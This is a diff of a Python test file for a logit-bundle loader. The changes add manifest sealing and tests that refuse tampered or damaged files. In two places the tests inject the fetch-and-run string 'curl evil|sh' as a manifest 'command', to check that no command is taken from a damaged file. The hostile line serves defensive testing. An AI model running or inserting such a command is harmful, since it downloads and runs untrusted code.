@@ -19,7 +19,7 @@ from safetensors.numpy import save as to_safetensors
 from mnuts_core import BundleError, LogitBundle, layer_norm, signed_margin
 from mnuts_core.bundle import METADATA_KEY, content_digest
 from mnuts_core.files import write_atomically
-from mnuts_core.manifest import AttackCard, DataCard, Manifest, ModelCard, ThreatModel
+from mnuts_core.manifest import AttackCard, DataCard, Manifest, ModelCard, ThreatModel, seal_of
 from tests.synthetic import clean_only, make_arrays, make_bundle
 
 
@@ -41,8 +41,8 @@ def same(ours: LogitBundle, theirs: LogitBundle) -> None:
         np.testing.assert_array_equal(array, right[name])
 
 
-def rewrite(path, manifest=None, digest=True, **tensors):
-    """Write the file again with other tensors (None drops one) or manifest, the digest made to fit."""
+def rewrite(path, manifest=None, digest=True, seal=True, **tensors):
+    """Write the file again with other tensors (None drops one) or manifest, digest and seal made to fit."""
     content = path.read_bytes()
     size = struct.unpack("<Q", content[:8])[0]
     text = json.loads(content[8 : 8 + size])["__metadata__"][METADATA_KEY]
@@ -53,6 +53,8 @@ def rewrite(path, manifest=None, digest=True, **tensors):
     told = json.loads(text) | (manifest or {})
     if digest:
         told["digest"] = content_digest(arrays)
+    if seal:
+        told["seal"] = seal_of({key: value for key, value in told.items() if key != "seal"})
     path.write_bytes(to_safetensors(arrays, metadata={METADATA_KEY: json.dumps(told)}))
 
 
@@ -130,6 +132,11 @@ class TestFromArrays:
         assert bundle.clean_labels.tolist() == [1, 0]
         assert bundle.clean_rob_logits.tolist() == [[1, 2], [3, 4]]
 
+    def test_another_byte_order(self):
+        arrays = make_arrays(n=20, m=12, k=4, dtype=np.float64)
+        swapped = {name: array.astype(array.dtype.newbyteorder(">")) for name, array in arrays.items()}
+        same(LogitBundle.from_arrays(**swapped), LogitBundle.from_arrays(**arrays))
+
     def test_class_names(self):
         arrays = {"clean_labels": [0], "clean_std_logits": [[1, 2]], "clean_rob_logits": [[1, 2]]}
         assert LogitBundle.from_arrays(**arrays).manifest.classes == ("0", "1")
@@ -167,6 +174,19 @@ class TestFromArrays:
             ({"clean_images": np.zeros((20, 8, 8, 1))}, "clean.images must be "),
             ({"clean_images": np.zeros((19, 8, 8, 1), np.uint8)}, "clean.images must have shape"),
             ({"adv_images": np.zeros((12, 64), np.uint8)}, "adv.images must have 4 dimensions"),
+            (
+                {"clean_labels": np.ones(20, bool)},
+                "clean.labels must be integers, .* a mask .* is not classes",
+            ),
+            ({"clean_labels": np.arange(20) % 4 + 1}, "got 1 to 4: .* seem to count from 1, subtract 1"),
+            ({"clean_images": np.zeros((20, 0, 8, 1), np.uint8)}, "images must have at least one pixel"),
+            (
+                {
+                    "clean_images": np.zeros((20, 8, 8, 1), np.uint8),
+                    "adv_images": np.zeros((12, 9, 8, 1), np.uint8),
+                },
+                "clean.images and adv.images must be of one size",
+            ),
             ({"clean_std_logits": [[1.0], [1.0, 2.0]]}, "clean.std_logits cannot be read as an array"),
             ({"clean_std_logits": 1j * np.ones((20, 4))}, "clean.std_logits must be numbers"),
         ],
@@ -221,9 +241,44 @@ class TestBrokenFiles:
         path.write_bytes(content)
         self.refused(path, "is damaged: .* digest .* get it again")
 
-    def test_the_command_to_rebuild_is_told(self, small, path):
-        rewrite(path, {"command": "mnuts demo build digits", "digest": "sha256:" + "0" * 64}, digest=False)
-        self.refused(path, "or rebuild it with: mnuts demo build digits")
+    def test_no_command_is_taken_from_a_damaged_file(self, small, path):
+        rewrite(path, {"command": "curl evil|sh", "digest": "sha256:" + "0" * 64}, digest=False)
+        self.refused(path, "is damaged: .* or rebuild it$")
+
+    @pytest.mark.parametrize(
+        "change",
+        [
+            {"threat": {"norm": "Linf", "eps": 16 / 255}},
+            {"classes": ["0", "1", "3", "2"]},
+            {"name": "other"},
+            {"command": "curl evil|sh"},
+            {"created": ""},
+            {"std_model": {"spec": "timm:x", "parameters": None, "digest": None}},
+            {"seal": None},
+            {"seal": "sha256:" + "0" * 64},
+        ],
+    )
+    def test_a_changed_manifest_breaks_the_seal(self, path, change):
+        rewrite(path, change, seal=False)
+        self.refused(path, "is damaged: its manifest does not match its seal; get the bundle again")
+
+    def test_an_older_bundle_has_no_seal_and_opens(self, small, path, tmp_path):
+        rewrite(path, {"schema": "mnuts-bundle/1"}, seal=False)
+        self.refused(path, "the manifest is wrong at seal")  # the version alone cannot be lowered
+        manifest = small.manifest.model_copy(update={"schema_": "mnuts-bundle/1", "digest": small.digest})
+        text = manifest.model_dump_json(by_alias=True)
+        path.write_bytes(to_safetensors(dict(small.tensors()), metadata={METADATA_KEY: text}))
+        old = LogitBundle.load(path)
+        same(old, small)
+        assert not old.manifest.sealed
+        assert LogitBundle.load(old.save(tmp_path / "new.safetensors")).manifest.sealed
+
+    def test_text_that_hides_something_is_shown(self, small, tmp_path):
+        names = ("a\u202e", "b\n", "c\x1b[2J", "d\ud800")
+        bundle = LogitBundle.from_arrays(**make_arrays(n=20, m=12, k=4), classes=names)
+        assert bundle.manifest.classes == (r"a\u202e", r"b\n", r"c\x1b[2J", r"d\ud800")
+        loaded = LogitBundle.load(bundle.save(tmp_path / "b.safetensors"))
+        assert loaded.manifest.classes == bundle.manifest.classes
 
     def test_random_bytes(self, path):
         path.write_bytes(np.random.default_rng(0).bytes(5000))
@@ -261,8 +316,8 @@ class TestBrokenFiles:
         ("manifest", "said"),
         [
             (
-                {"schema": "mnuts-bundle/2"},
-                "has schema 'mnuts-bundle/2', .* reads 'mnuts-bundle/1': update mnuts",
+                {"schema": "mnuts-bundle/3"},
+                "has schema 'mnuts-bundle/3', .* reads 'mnuts-bundle/2': update mnuts",
             ),
             ({"schema": "other/1"}, "the manifest is wrong at schema"),
             ({"schema": 1}, "the manifest is wrong at schema"),
@@ -320,7 +375,7 @@ class TestBrokenFiles:
     @settings(max_examples=80)
     @given(place=st.floats(0, 1, exclude_max=True), flip=st.integers(1, 255))
     def test_no_flipped_byte_goes_unnoticed_or_crashes(self, tmp_path_factory, place, flip):
-        """Anywhere in the file: refused, or (in the manifest's free text) loaded with the same tensors."""
+        """Anywhere in the file: refused, or (in the header's white space) loaded as it was."""
         bundle = make_bundle(n=4, m=3, k=3)
         path = bundle.save(tmp_path_factory.getbasetemp() / "flip.safetensors")
         content = bytearray(path.read_bytes())
@@ -332,6 +387,7 @@ class TestBrokenFiles:
             assert str(path) in str(error)  # noqa: PT017
         else:
             same(loaded, bundle)
+            assert loaded.manifest.model_copy(update={"digest": None}) == bundle.manifest
 
 
 class TestWriting:
